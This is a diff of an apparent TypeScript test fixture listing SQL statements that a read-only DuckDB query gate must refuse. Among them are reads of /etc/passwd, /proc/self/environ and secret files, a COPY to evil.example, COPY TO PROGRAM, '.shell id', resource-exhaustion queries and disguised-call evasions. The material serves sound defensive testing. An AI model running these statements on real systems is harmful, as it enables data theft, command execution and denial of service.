@@ -1,111 +1,103 @@
-import { BLOATING as MORE_BLOATING, CASTS, DISGUISED, shadowing } from './row-query.hostile.disguises.js';
-import {
-  CATALOG_READERS,
-  CATALOG_VIEWS,
-  FILE_READERS,
-  FORBIDDEN_CALLS,
-  SINGLE_CALLS,
-} from './row-query.hostile.names.js';
-import { CALL_PLACES, TABLE_PLACES } from './row-query.hostile.positions.js';
-import { OTHER_STATEMENTS } from './row-query.hostile.statements.js';
 import type { QueryFixture } from './row-query.fixture.js';
 
 type Places = Pick<QueryFixture, 'folder' | 'base' | 'neighbour' | 'delta' | 'secretFile'>;
 
-/** Statements that must be refused, by what they are after; no two are alike. */
+/** Statements that must be refused, by what they are after; no two are alike. For each rule of the gate some that only it stops. */
 export function hostileFamilies(places: Places): ReadonlyMap<string, readonly string[]> {
-  const { folder, base, neighbour, delta, secretFile } = places;
-  const families: Readonly<Record<string, readonly string[]>> = {
-    'reading files': [...readingFiles(secretFile, base, neighbour, delta), ...everyReader(secretFile)],
-    'writing files': writingFiles(folder, neighbour),
-    'the network': NETWORK,
-    settings: SETTINGS,
-    'the catalog': [...CATALOG, ...CATALOG_VIEWS.map((view) => `SELECT * FROM ${view}`)],
-    'functions of the catalog': CATALOG_READERS.map((name) => `SELECT * FROM ${name}()`),
-    'functions that are no computation': SINGLE_CALLS.map((call) => `SELECT ${call}`),
-    'other tables': OTHER_TABLES,
-    'names of its own': shadowing(delta),
-    writes: WRITES,
-    'other statements': OTHER_STATEMENTS,
-    'several statements': SEVERAL,
-    'SQL in a text': INDIRECT,
-    casts: CASTS,
-    'huge values': [...BLOATING, ...MORE_BLOATING],
-    disguises: DISGUISED,
-    'every place of a table': everyPlace(TABLE_PLACES, forbiddenTables(places), 3),
-    'every place of a call': everyPlace(CALL_PLACES, FORBIDDEN_CALLS, 2),
-  };
-  const seen = new Set<string>();
-  const isNew = (statement: string): boolean => !seen.has(statement) && seen.add(statement).size > 0;
-  return new Map(Object.entries(families).map(([family, statements]) => [family, statements.filter(isNew)]));
-}
-
-/** Each place with some of what must not stand there, so that each of that comes to stand in many places. */
-function everyPlace(places: readonly string[], fillings: readonly string[], each: number): readonly string[] {
-  const turn = (from: number): readonly string[] => [...fillings, ...fillings].slice(from, from + each);
-  return places.flatMap((place, index) =>
-    turn((index * each) % fillings.length).map((filling) => place.replaceAll('§', () => filling)),
-  );
-}
-
-function forbiddenTables({ secretFile, neighbour }: Places): readonly string[] {
-  const files = [`read_csv('${secretFile}')`, `'${secretFile}'`, `read_text('/proc/self/environ')`, `'${neighbour}'`];
-  return [
-    ...files,
-    'facts',
-    'sqlite_master',
-    'duckdb_settings()',
-    `query('SELECT 1')`,
-    `query_table('facts')`,
-    'memory.main.data',
-  ];
-}
-
-function everyReader(secretFile: string): readonly string[] {
-  return FILE_READERS.flatMap((name) => [
-    `SELECT * FROM ${name}('${secretFile}')`,
-    `SELECT count(*) FROM ${name}('/proc/self/environ') WHERE true`,
-    `FROM ${name}('https://evil.example/x')`,
+  const { folder, neighbour, delta, secretFile } = places;
+  return new Map<string, readonly string[]>([
+    ['reading files', [...READERS.map((name) => `FROM ${name}('${secretFile}')`), ...readingFiles(places)]],
+    ['writing files, other databases and the network', leaving(folder, neighbour)],
+    ['settings', SETTINGS],
+    ['the catalog', [...VIEWS.map((view) => `FROM ${view}`), ...CATALOG.map((name) => `FROM ${name}()`), ...SHOWN]],
+    ['functions that are no computation', CALLS.map((call) => `SELECT ${call}`)],
+    ['other tables', OTHER_TABLES],
+    ['names of its own', [...outOfScope('facts'), ...outOfScope(`"${delta}"`), ...SHADOWING]],
+    ['other statements', OTHER_STATEMENTS],
+    ['several statements', SEVERAL],
+    [
+      'casts',
+      TYPES.flatMap((type) => [`SELECT CAST(NULL AS ${type})`, `SELECT TRY_CAST("Region" AS ${type}) FROM data`]),
+    ],
+    ['huge values', BLOATING],
+    ['disguises', DISGUISED],
+    ['every place of a table', everyPlace(TABLE_PLACES, forbiddenTables(places))],
+    ['every place of a call', everyPlace(CALL_PLACES, ['getenv(1)', `nextval('s')`, `current_setting('x')`])],
   ]);
 }
 
-function readingFiles(secret: string, base: string, neighbour: string, delta: string): readonly string[] {
+/** Each place with one of what must not stand there, so that each of that comes to stand in many places. */
+function everyPlace(places: readonly string[], fillings: readonly string[]): readonly string[] {
+  return places.map((place, index) => place.replaceAll('§', () => fillings[index % fillings.length] ?? ''));
+}
+
+function forbiddenTables({ secretFile, neighbour }: Places): readonly string[] {
+  const files = [`read_csv('${secretFile}')`, `'${secretFile}'`, `'${neighbour}'`];
+  return [...files, 'facts', 'sqlite_master', 'duckdb_settings()', `query('SELECT 1')`];
+}
+
+function words(text: string): readonly string[] {
+  return text.trim().split(/\s+/);
+}
+
+/** Functions that read files, of this machine or of another. */
+const READERS = words(`
+  read_csv read_csv_auto read_text read_blob read_json read_json_auto read_json_objects read_ndjson read_ndjson_objects
+  read_parquet parquet_scan parquet_metadata parquet_schema parquet_kv_metadata sniff_csv glob read_duckdb read_xlsx
+  sqlite_scan postgres_scan iceberg_scan delta_scan http_get`);
+
+/** Functions that tell of the catalog, the settings, the process or the machine, run texts or are made for tests. */
+const CATALOG = words(`
+  duckdb_columns duckdb_databases duckdb_extensions duckdb_functions duckdb_logs duckdb_memory duckdb_schemas duckdb_secrets
+  duckdb_settings duckdb_tables duckdb_temporary_files duckdb_variables duckdb_views pragma_database_size pragma_version
+  pg_timezone_names enable_logging checkpoint force_checkpoint test_all_types test_vector_types`);
+
+/** Views and tables of the engine's own. */
+const VIEWS = words(`
+  duckdb_columns duckdb_databases duckdb_tables duckdb_views sqlite_master sqlite_schema sqlite_temp_master
+  pragma_database_list pg_attribute pg_class pg_proc pg_settings pg_tables pg_catalog.pg_class information_schema.tables
+  information_schema.columns system.main.duckdb_tables memory.pg_catalog.pg_class temp.information_schema.columns`);
+
+// prettier-ignore
+const SHOWN = [
+  'SHOW TABLES', 'SHOW ALL TABLES', 'SHOW DATABASES', 'SHOW VARIABLES', 'SHOW threads', 'DESCRIBE', 'DESCRIBE facts', 'SUMMARIZE facts',
+  `FROM pragma_table_info('data')`, `FROM which_secret('s3://x', 's3')`, `FROM seq_scan('data')`, `FROM sql_auto_complete('SEL')`,
+];
+
+/** Calls of functions that are no mere computation with their arguments, or whose result grows out of small ones. */
+const CALLS = words(`
+  current_setting('temp_directory') getvariable('x') getenv('PATH') nextval('s') currval('s') current_database()
+  current_schemas(true) current_query() current_user() session_user() version() txid_current() in_search_path('x','y')
+  pg_get_viewdef(1) has_table_privilege('data','SELECT') pg_sleep(100) sleep_ms(100000) setseed(0.5) error('x')
+  write_log('x') stats(1) json_execute_serialized_sql('{}') json_serialize_sql('SELECT') json_serialize_plan('SELECT')
+  get_block_size('memory') load_extension('x') readfile('/etc/passwd') writefile('/tmp/x','y') pg_read_file('/etc/passwd')
+  dblink('x','y') utl_http.request('http://x') parse_path('/etc/passwd') from_base64('eA==') to_base(1,2,1000000000)
+  list_resize([1],1000000000) bitstring('1',1000000000) enum_range(NULL::mood) gen_random_uuid() union_value(a:=1)`);
+
+function readingFiles({ secretFile, base, neighbour }: Places): readonly string[] {
   return [
-    `SELECT * FROM read_csv('${secret}')`,
-    `SELECT * FROM read_csv_auto('${secret}')`,
-    `SELECT * FROM '${secret}'`,
-    `SELECT * FROM "${secret}"`,
-    `FROM '${secret}'`,
-    `SELECT * FROM read_text('${secret}')`,
-    `SELECT * FROM read_blob('${secret}')`,
-    `SELECT * FROM read_json('${secret}')`,
-    `SELECT * FROM read_ndjson_objects('${secret}')`,
-    `SELECT * FROM read_parquet('${delta}')`,
-    `SELECT * FROM parquet_scan('${delta}')`,
-    `SELECT * FROM parquet_metadata('${delta}')`,
-    `SELECT * FROM sniff_csv('${secret}')`,
-    `SELECT * FROM glob('/etc/*')`,
+    `SELECT * FROM '${secretFile}'`,
+    `SELECT * FROM "${secretFile}"`,
+    `SELECT content FROM '${neighbour}' AS t(content)`,
+    `SELECT * FROM ['/etc/a.csv', '/etc/b.csv']`,
+    `SELECT * FROM 'file:///etc/passwd'`,
+    `SELECT * FROM '**/*.parquet'`,
+    `SELECT * FROM 'https://example.invalid/x.parquet'`,
+    `SELECT * FROM 's3://bucket/x.csv'`,
+    `SELECT * FROM 'postgres:host=127.0.0.1'.t`,
     `SELECT * FROM read_text('/proc/self/environ')`,
-    `SELECT * FROM read_text('/etc/passwd')`,
-    `SELECT * FROM read_duckdb('${neighbour}')`,
-    `SELECT * FROM '${neighbour}'`,
-    `SELECT (SELECT content FROM read_text('/etc/passwd')) FROM data`,
-    `SELECT * FROM data WHERE "Region" IN (SELECT content FROM read_text('${secret}'))`,
-    `WITH x AS (SELECT * FROM read_csv('${secret}')) SELECT * FROM x`,
-    `SELECT * FROM data, LATERAL (SELECT * FROM read_text('${secret}'))`,
+    `SELECT * FROM read_text(['/etc/passwd', '/etc/hostname'])`,
+    `SELECT * FROM read_csv(path := '/etc/passwd')`,
     `SELECT 1 UNION ALL SELECT count(*) FROM read_blob('${base}')`,
-    `SELECT * FROM (VALUES ((SELECT content FROM read_text('${secret}')))) v`,
-    `SELECT * FROM data ORDER BY (SELECT content FROM read_text('${secret}'))`,
-    `SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM glob('*'))) FROM data`,
-    `SELECT sum(units) OVER (ORDER BY (SELECT size FROM read_blob('${secret}'))) FROM data`,
-    `SELECT * FROM data LIMIT (SELECT size FROM read_blob('${secret}'))`,
   ];
 }
 
-function writingFiles(folder: string, neighbour: string): readonly string[] {
+function leaving(folder: string, neighbour: string): readonly string[] {
   return [
     `COPY data TO '${folder}/out.csv'`,
     `COPY (SELECT * FROM data) TO '${folder}/out.parquet'`,
+    `COPY (SELECT 1) TO 'https://evil.example/x.csv'`,
+    `COPY (SELECT 1) TO PROGRAM 'id'`,
     `COPY data FROM '${folder}/secret.csv'`,
     `EXPORT DATABASE '${folder}/export'`,
     `IMPORT DATABASE '${folder}/export'`,
@@ -114,180 +106,287 @@ function writingFiles(folder: string, neighbour: string): readonly string[] {
     `ATTACH ':memory:' AS n`,
     `DETACH memory`,
     `USE system`,
+    `INSTALL httpfs`,
+    `LOAD '/tmp/x.duckdb_extension'`,
+    `CREATE SECRET s (TYPE S3)`,
   ];
 }
-
-const NETWORK = [
-  `SELECT * FROM read_csv('http://127.0.0.1:1/x.csv')`,
-  `SELECT * FROM 'https://example.invalid/x.parquet'`,
-  `SELECT * FROM read_parquet('s3://bucket/x.parquet')`,
-  `INSTALL httpfs`,
-  `LOAD httpfs`,
-  `UPDATE EXTENSIONS`,
-  `CREATE SECRET s (TYPE S3)`,
-  `FROM which_secret('s3://x', 's3')`,
-  `FROM duckdb_secrets()`,
-];
 
 const SETTINGS = [
   `SET memory_limit = '100GB'`,
   `SET enable_external_access = true`,
-  `SET lock_configuration = false`,
-  `RESET threads`,
+  `SET allowed_paths = ['/']`,
+  `RESET lock_configuration`,
+  `SET VARIABLE x = (SELECT content FROM read_text('/etc/passwd'))`,
   `PRAGMA threads = 64`,
   `PRAGMA database_list`,
   `PRAGMA enable_profiling`,
-  `PRAGMA database_size`,
-  `SET VARIABLE x = 1`,
-  `SELECT current_setting('temp_directory')`,
-  `SELECT getvariable('x')`,
-  `SELECT getenv('PATH')`,
   `CALL enable_logging()`,
   `CALL pragma_version()`,
-  `SELECT version()`,
-];
-
-const CATALOG = [
-  `SHOW TABLES`,
-  `SHOW ALL TABLES`,
-  `SHOW DATABASES`,
-  `FROM duckdb_databases()`,
-  `FROM duckdb_settings()`,
-  `FROM duckdb_tables()`,
-  `FROM duckdb_columns()`,
-  `FROM duckdb_views()`,
-  `FROM duckdb_temporary_files()`,
-  `FROM duckdb_databases`,
-  `FROM duckdb_tables`,
-  `FROM sqlite_master`,
-  `FROM sqlite_schema`,
-  `FROM pg_catalog.pg_tables`,
-  `FROM pg_class`,
-  `FROM information_schema.tables`,
-  `FROM information_schema.columns`,
-  `FROM pragma_database_list`,
-  `FROM pragma_table_info('data')`,
-  `FROM pragma_storage_info('data')`,
-  `SELECT current_database()`,
-  `SELECT current_schemas(true)`,
-  `SELECT current_query()`,
-  `SELECT pg_get_viewdef(1)`,
 ];
 
 const OTHER_TABLES = [
   `SELECT * FROM columns`,
   `SELECT * FROM facts`,
-  `SELECT * FROM assets`,
   `SELECT * FROM visible`,
   `SELECT * FROM memory.main.data`,
   `SELECT * FROM main.data`,
-  `SELECT * FROM temp.data`,
-  `SELECT * FROM system.main.duckdb_tables`,
-  `SELECT * FROM base.facts`,
+  `SELECT * FROM temp.main.data`,
+  `FROM system.data`,
+  `FROM data.data`,
+  `FROM "data "`,
+  `FROM 'data'.facts`,
   `SELECT * FROM data AT (VERSION => 1)`,
-  `SELECT * FROM facts, (WITH facts AS (SELECT 1) SELECT * FROM facts) x`,
-  `SELECT * FROM sqlite_master, (WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master) x`,
-  `SELECT * FROM (WITH facts AS (SELECT 1) SELECT * FROM facts) x, facts`,
-  `WITH data AS (SELECT 1) SELECT * FROM data`,
-  `WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a`,
-  `WITH a AS (SELECT * FROM a) SELECT * FROM a`,
-  `SELECT * FROM (SELECT 1) AS data`,
-  `SELECT * FROM (SELECT 1) AS sqlite_master`,
+  `FROM data AT (TIMESTAMP => now())`,
+  `TABLE facts`,
+  `(TABLE data) UNION ALL (TABLE facts)`,
   `FROM query('SELECT 1')`,
-  `FROM query_table('data')`,
   `FROM query_table(['facts'])`,
 ];
 
-const WRITES = [
-  `INSERT INTO data VALUES (1)`,
-  `UPDATE data SET units = 0`,
-  `DELETE FROM data`,
-  `TRUNCATE data`,
-  `DROP TABLE data`,
-  `DROP VIEW data`,
-  `ALTER TABLE data RENAME TO x`,
-  `CREATE TABLE x AS SELECT * FROM data`,
-  `CREATE TEMP TABLE x AS SELECT 1`,
-  `CREATE OR REPLACE TEMP VIEW data AS SELECT 1`,
-  `CREATE MACRO f() AS 1`,
-  `CREATE SEQUENCE s`,
-  `CREATE TYPE t AS ENUM ('a')`,
-  `SELECT nextval('s')`,
-  `BEGIN`,
-  `COMMIT`,
-  `ROLLBACK`,
-  `CHECKPOINT`,
-  `VACUUM`,
-  `ANALYZE`,
-  `PREPARE p AS SELECT 1`,
-  `EXECUTE p`,
-  `EXPLAIN SELECT * FROM data`,
-  `EXPLAIN ANALYZE DELETE FROM data`,
-  `WITH x AS (DELETE FROM data RETURNING *) SELECT * FROM x`,
-  `MERGE INTO data USING data ON true WHEN MATCHED THEN DELETE`,
-  `COMMENT ON TABLE data IS 'x'`,
-  ``,
-  `;`,
-  `-- nothing`,
+/** Names that a statement gives to something of its own, and uses where they mean something else. */
+const SHADOWING = [
+  `WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master`,
+  `SELECT * FROM PG_CLASS, (WITH pg_class AS (SELECT 1) FROM pg_class) x`,
+  `WITH data AS (SELECT 1) SELECT * FROM data`,
+  `WITH "Data"(a) AS (VALUES (1)) FROM "Data"`,
+  `WITH RECURSIVE data AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM data WHERE n < 3) FROM data`,
+  `SELECT * FROM (SELECT 1) AS data`,
+  `SELECT * FROM range(3) AS data`,
+  `SELECT * FROM unnest([1]) AS sqlite_master`,
+  `SELECT * FROM data AS pg_class`,
+  `SELECT * FROM data AS sqlite_master, sqlite_master`,
+  `WITH RECURSIVE r AS (FROM r UNION SELECT 1) FROM r`,
+  `WITH RECURSIVE r AS (SELECT * FROM r UNION ALL SELECT 1) SELECT * FROM r`,
+  `WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT n FROM recurring.r) FROM r`,
+  `WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT 1 FROM s), s AS (FROM r) FROM s`,
+  `WITH "\u212A" AS (SELECT 1) FROM k`,
+  `WITH "ﬀ" AS (SELECT 1) FROM ff`,
+  `WITH "İ" AS (SELECT 1) FROM i`,
+  `WITH x AS (FROM data) FROM main.x`,
+  `WITH x AS (FROM data) FROM x.data`,
+];
+
+/** Places in which the name of a WITH query is not its name. */
+function outOfScope(name: string): readonly string[] {
+  return [
+    `SELECT * FROM (WITH ${name} AS (SELECT 1) FROM ${name}) a, ${name}`,
+    `SELECT * FROM ${name}, (WITH ${name} AS (SELECT 1) FROM ${name}) a`,
+    `(WITH ${name} AS (SELECT 1) FROM ${name}) UNION ALL FROM ${name}`,
+    `WITH a AS (WITH ${name} AS (SELECT 1) FROM ${name}) SELECT * FROM a, ${name}`,
+    `WITH a AS (FROM ${name}), ${name} AS (SELECT 1) FROM a`,
+    `WITH ${name} AS (FROM ${name}) FROM ${name}`,
+    `SELECT (WITH ${name} AS (SELECT 1 AS x) SELECT x FROM ${name}), (SELECT count(*) FROM ${name})`,
+    `WITH RECURSIVE a AS (SELECT 1 AS n UNION (WITH ${name} AS (SELECT 1) FROM ${name})) SELECT * FROM a, ${name}`,
+  ];
+}
+
+/** Statements that are no SELECT. */
+// prettier-ignore
+const OTHER_STATEMENTS = [
+  'INSERT INTO data SELECT * FROM data', 'UPDATE data SET units = 1 RETURNING *', 'DELETE FROM data', 'TRUNCATE TABLE facts',
+  'MERGE INTO data USING data ON true WHEN MATCHED THEN DELETE', 'WITH x AS (DELETE FROM data RETURNING *) SELECT * FROM x',
+  'CREATE TABLE x AS SELECT * FROM data', 'CREATE OR REPLACE TEMP VIEW data AS SELECT 1', 'CREATE OR REPLACE MACRO lower(x) AS 1',
+  'CREATE SCHEMA s', 'CREATE SEQUENCE s', `CREATE TYPE t AS ENUM ('a')`, 'DROP VIEW data', 'DROP SCHEMA main CASCADE', 'ALTER TABLE data RENAME TO x',
+  `COMMENT ON TABLE data IS 'x'`, 'BEGIN', 'COMMIT', 'CHECKPOINT', 'VACUUM', 'ANALYZE', 'PREPARE p AS SELECT 1', 'EXECUTE p', 'DEALLOCATE p',
+  'EXPLAIN SELECT * FROM data', 'EXPLAIN ANALYZE DELETE FROM data', 'SELECT * INTO t FROM data', 'GRANT ALL ON data TO x', '.shell id', '\\copy x',
+  'PIVOT data ON "Region"', 'PIVOT data ON units IN mood USING count(*)', 'SELECT * FROM (PIVOT data ON units IN mood USING sum(units))',
+  'SELECT ?', 'SELECT $1', 'SELECT $x', 'SELECT #0', 'SELECT @@version', 'SELECT 1e999', 'SELECT 1 FROM data WHERE units < -1e999',
+  '', ';', '-- nothing', '/* never ended', `'never ended`, '"never ended', 'SELECT', 'SELECT * FROM', '{"sql": "SELECT 1"}', '```sql\nSELECT 1\n```',
 ];
 
 const SEVERAL = [
   `SELECT 1; SELECT 2`,
   `SELECT 1; DROP TABLE data`,
-  `SELECT 1;; SELECT 2`,
   `SELECT 1 /* ; */ ; ATTACH ':memory:' AS x`,
-  `SELECT * FROM data; CREATE TEMP TABLE x AS SELECT 1`,
+  `SELECT 1; SET threads = 1; SELECT 2`,
+  `SELECT 1;; SELECT 2`,
   `PIVOT data ON product USING sum(units)`,
 ];
 
-const INDIRECT = [
-  `SELECT json_execute_serialized_sql('{}')`,
-  `FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))`,
-  `SELECT json_serialize_sql('SELECT 1')`,
-  `SELECT json_serialize_plan('SELECT 1')`,
-  `FROM sql_auto_complete('SEL')`,
-  `FROM check_peg_parser('SELECT 1')`,
-  `SELECT parse_path('/etc/passwd')`,
-  `SELECT sleep_ms(100000)`,
-  `SELECT pg_sleep(100)`,
-  `SELECT write_log('x')`,
-  `SELECT error('x')`,
-  `SELECT 'a'::regclass`,
-  `SELECT 1::mood`,
-  `SELECT '1'::BIT`,
-  `SELECT $1`,
-  `SELECT ?`,
-  `FROM test_all_types()`,
-  `FROM seq_scan('data')`,
-  `FROM repeat_row(1, num_rows = 1000000000)`,
+/** Types that are looked up by name, or whose values grow out of small ones. */
+// prettier-ignore
+const TYPES = [
+  'regclass', 'name', 'mood', 'main.mood', 'memory.main.t', 'BIT', 'BLOB', `ENUM('a', 'b')`, 'VARIANT', 'UNION(a INT, b TEXT)',
+  'BIT[]', 'mood[3]', 'STRUCT(a STRUCT(b BLOB))', 'MAP(VARCHAR, BIT)', 'MAP(mood, INT)', 'main."JSON"', '"JSON".x', '"json "', 'facts',
+  `INT${'[]'.repeat(500)}`,
 ];
 
+/** Small statements that ask for huge values. */
 const BLOATING = [
   `SELECT repeat('x', 2000000000)`,
-  `SELECT sum(length(repeat("Region", 200000000))) FROM data`,
-  `SELECT repeat('x', units * 100000000) FROM data`,
-  `SELECT repeat(repeat('x', 1000), 1001)`,
-  `SELECT lpad('x', 1000000000, 'y')`,
-  `SELECT rpad("Region", 1000000000, 'y') FROM data`,
-  `SELECT len(range(500000000))`,
-  `SELECT len(range(units * 100000000)) FROM data`,
-  `SELECT unnest(range(100000000)) FROM data`,
-  `SELECT unnest(generate_series(0, 100000000)) FROM data`,
-  `SELECT * FROM range(100000000000)`,
-  `SELECT * FROM generate_series(0, 170141183460469231731687303715884105727)`,
-  `SELECT unnest(generate_series(TIMESTAMP '1000-01-01', TIMESTAMP '2024-01-01', INTERVAL 1 SECOND))`,
-  `SELECT unnest(generate_series(min("Order Date"), max("Order Date"), INTERVAL '1 microsecond')) FROM data`,
-  `SELECT printf('%1000000000d', 1)`,
-  `SELECT printf('%*d', 1000000000, 1)`,
-  `SELECT format('{:1000000000}', 1)`,
-  `SELECT format('{:{}}', 1, 1000000000)`,
-  `SELECT format("Region", 1) FROM data`,
+  `SELECT repeat("Region", length("Region") * 1000000) FROM data`,
+  `SELECT repeat('x', 1e9)`,
+  `SELECT repeat('x', '1000000000')`,
+  `SELECT repeat('x', (SELECT 1000000000))`,
+  `SELECT repeat('x', greatest(units, 10)) FROM data`,
+  `SELECT repeat('x', least(units, 1001)) FROM data`,
+  `SELECT repeat('x', least(units, units)) FROM data`,
+  `SELECT repeat('x', least(units, 10)::VARCHAR::INT) FROM data`,
+  `SELECT repeat('x', least(units, 10)::DOUBLE) FROM data`,
+  `SELECT repeat('x', -(-1000000000))`,
+  `SELECT repeat([1], 1000000000)`,
+  `SELECT lpad('x', 1001, 'y')`,
+  `SELECT rpad('', least(units, 1000000), 'x') FROM data`,
+  `SELECT bar(units, 0, 10, units * 1000000) FROM data`,
   `SELECT bar(1, 0, 1, 1000000000)`,
   `SELECT equi_width_bins(0, 1, 1000000000, true)`,
-  `SELECT list_resize([1], 1000000000)`,
-  `SELECT repeat('1', 1000000000)::BIT`,
-  `SELECT to_base(1, 2, 1000000000)`,
+  `SELECT equi_width_bins(0, 1000000, units * 1000, true) FROM data`,
+  `SELECT range(100001)`,
+  `SELECT range(0, -1000000000, -1)`,
+  `SELECT range(0, least(units, 5), -1) FROM data`,
+  `SELECT r.* FROM data, range(9, least(units, 5), -2) r`,
+  `SELECT range(units, least(units, 5)) FROM data`,
+  `SELECT range(0, 10, 0)`,
+  `SELECT range(-9223372036854775808, 9223372036854775807)`,
+  `SELECT range('1000000000')`,
+  `SELECT range(x) FROM (VALUES (1000000000)) v(x)`,
+  `SELECT generate_series(DATE '0001-01-01', DATE '9999-12-31', INTERVAL 1 SECOND)`,
+  `SELECT generate_series("Order Date", now()::TIMESTAMP, INTERVAL (units) DAY) FROM data`,
+  `SELECT generate_series("Order Date", now()::TIMESTAMP, INTERVAL 1 DAY - INTERVAL 86399 SECOND) FROM data`,
+  `SELECT generate_series("Order Date", now()::TIMESTAMP, INTERVAL 0 DAY) FROM data`,
+  `SELECT generate_series("Order Date", now()::TIMESTAMP, INTERVAL '59 seconds') FROM data`,
+  `FROM range(1000001)`,
+  `FROM range(0, -2000000, -1)`,
+  `FROM range(0, 1000000, -0)`,
+  `FROM generate_series(0, 170141183460469231731687303715884105727)`,
+  `FROM data, range(units * 1000000000)`,
+  `SELECT printf('%5000s', 'x')`,
+  `SELECT printf('%*d', 1000000000, 1)`,
+  `SELECT printf('%' || '1000000000d', 1)`,
+  `SELECT format('{:1000000000}', 1)`,
+  `SELECT format('{:{}}', 'x', units) FROM data`,
+  `SELECT format("Region", 1) FROM data`,
+  `SELECT list_aggregate([1], 'nextval')`,
+  `SELECT list_aggr([1], "Region") FROM data`,
+  `SELECT array_aggregate([1], (SELECT 'sum'))`,
+  `SELECT aggregate([1], 'x')`,
+  `SELECT from_json('[]', "Region") FROM data`,
+  `SELECT from_json('[]', '${'['.repeat(60)}"INT"${']'.repeat(60)}')`,
+  `SELECT json_transform('{}', '{"a": "INT"' || '}')`,
+  `SELECT json_transform('{}', '${'{"a":'.repeat(60)}"INT"${'}'.repeat(60)}')`,
+  `SELECT from_json_strict('[]', '["a;b"]')`,
+  `SELECT from_json('[]', '["a=b"]')`,
   `SELECT ${'('.repeat(3000)}1${')'.repeat(3000)} + ${Array.from({ length: 3000 }, () => '1').join('+')}`,
   `SELECT ${Array.from({ length: 900 }, () => '1').join('+')}`,
+  `SELECT ${'abs('.repeat(300)}1${')'.repeat(300)}`,
   `SELECT '${'x'.repeat(20_001)}'`,
+];
+
+/** A forbidden call or table, written so that it does not look like one. */
+const CALL = `current_setting('temp_directory')`;
+const DISGUISED = [
+  `SELECT "CURRENT_setting" ('temp_directory')`,
+  `SELECT current_setting\n(\n'temp_directory'\n)`,
+  `SELECT/**/current_setting/**/('temp_directory')`,
+  `SELECT /* /* nested */ */ ${CALL}`,
+  `SELECT 1 --\r\n, ${CALL}`,
+  `SELECT 1 /* ' */, ${CALL} /* ' */`,
+  `SELECT '/*', ${CALL}, '*/'`,
+  `SELECT $a$ ' $a$, ${CALL}`,
+  `SELECT E'\\'', ${CALL}`,
+  `SELECT "a""b" FROM (SELECT 1 AS "a""b"), (SELECT ${CALL})`,
+  `SELECT current_setting(chr(116) || 'emp_directory')`,
+  `SELECT 'temp_directory'.current_setting()`,
+  `SELECT main.current_setting('temp_directory')`,
+  `SELECT pg_catalog.current_setting('temp_directory')`,
+  `SELECT "system"."pg_catalog"."current_setting"('temp_directory')`,
+  `SELECT lower.current_setting('temp_directory')`,
+  `SELECT evil.lower('x')`,
+  `SELECT system.main.abs(1)`,
+  `FROM lower('x')`,
+  `FROM md5('x')`,
+  `SELECT\u00a0${CALL}`,
+  `SELECT\u3000${CALL}`,
+  `\ufeffSELECT ${CALL}`,
+  `SELECT ｃurrent_setting('temp_directory')`,
+  `SELECT сurrent_setting('temp_directory')`,
+  `SELECT current\u200b_setting('temp_directory')`,
+  `SELECT ${CALL} \u0000 -- harmless`,
+  `SELECT 1 \u0000, ${CALL}`,
+  `SELECT \u202e${CALL}`,
+  `;;SELECT ${CALL};;`,
+  `FROM data SELECT ${CALL}`,
+  `SELECT * FROM Read_Text('/etc/passwd')`,
+  `SELECT * FROM system.main."read_text"('/etc/passwd')`,
+  `SELECT * FROM read_text('/etc/' || 'passwd')`,
+];
+
+/** Places of a statement where something to read from can stand, alone or in a query of its own: at `§`. */
+const TABLE_PLACES: readonly string[] = [
+  `FROM (FROM (FROM §))`,
+  `FROM § TABLESAMPLE 10%`,
+  `SUMMARIZE FROM §`,
+  `FROM (SUMMARIZE SELECT * FROM §)`,
+  `SELECT ARRAY(SELECT 1 FROM §)`,
+  `SELECT {'a': (SELECT 1 FROM §)}`,
+  `SELECT CASE WHEN EXISTS (FROM §) THEN 1 END`,
+  `SELECT CAST((SELECT 1 FROM §) AS VARCHAR)`,
+  `SELECT TRY((SELECT 1 FROM §))`,
+  `SELECT list_transform([1], x -> x + (SELECT 1 FROM §))`,
+  `SELECT [x FOR x IN (SELECT list(1) FROM §)]`,
+  `SELECT * REPLACE ((SELECT 1 FROM §) AS units) FROM data`,
+  `SELECT DISTINCT ON ((SELECT 1 FROM §)) * FROM data`,
+  `SELECT list(units ORDER BY (SELECT 1 FROM §)) FROM data`,
+  `SELECT count(*) FILTER (WHERE EXISTS (FROM §)) FROM data`,
+  `SELECT sum(units) OVER (PARTITION BY (SELECT 1 FROM §)) FROM data`,
+  `SELECT sum(units) OVER (ROWS BETWEEN (SELECT 1 FROM §) PRECEDING AND CURRENT ROW) FROM data`,
+  `SELECT sum(units) OVER w FROM data WINDOW w AS (ORDER BY (SELECT 1 FROM §))`,
+  `SELECT lag(units, (SELECT 1 FROM §)) OVER () FROM data`,
+  `SELECT * FROM data WHERE units IN (SELECT 1 FROM §)`,
+  `SELECT * FROM data WHERE units > ALL (SELECT 1 FROM §)`,
+  `SELECT units FROM data GROUP BY ROLLUP (units, (SELECT 1 FROM §))`,
+  `SELECT units FROM data GROUP BY units HAVING EXISTS (FROM §)`,
+  `SELECT units FROM data QUALIFY row_number() OVER () = (SELECT 1 FROM §)`,
+  `SELECT units FROM data ORDER BY (SELECT 1 FROM §)`,
+  `SELECT units FROM data LIMIT 1 OFFSET (SELECT 1 FROM §)`,
+  `WITH x AS MATERIALIZED (FROM §) SELECT 1`,
+  `WITH x AS (WITH y AS (FROM §) FROM y) FROM x`,
+  `WITH RECURSIVE r AS (SELECT 1 AS n FROM § UNION ALL SELECT n + 1 FROM r WHERE n < 3) FROM r`,
+  `WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r, § WHERE n < 3) FROM r`,
+  `WITH RECURSIVE r(n) USING KEY (n) AS (SELECT 1 UNION SELECT n + 1 FROM r, § WHERE n < 3) FROM r`,
+  `SELECT * FROM data LEFT JOIN § ON true`,
+  `SELECT * FROM data d JOIN data e ON d.units = (SELECT 1 FROM §)`,
+  `SELECT * FROM data ASOF JOIN § s ON data.units >= s.a`,
+  `SELECT * FROM data, LATERAL (SELECT * FROM § WHERE data.units > 1)`,
+  `SELECT * FROM data, unnest((SELECT list(1) FROM §))`,
+  `SELECT 1 AS a UNION BY NAME SELECT 1 AS a FROM §`,
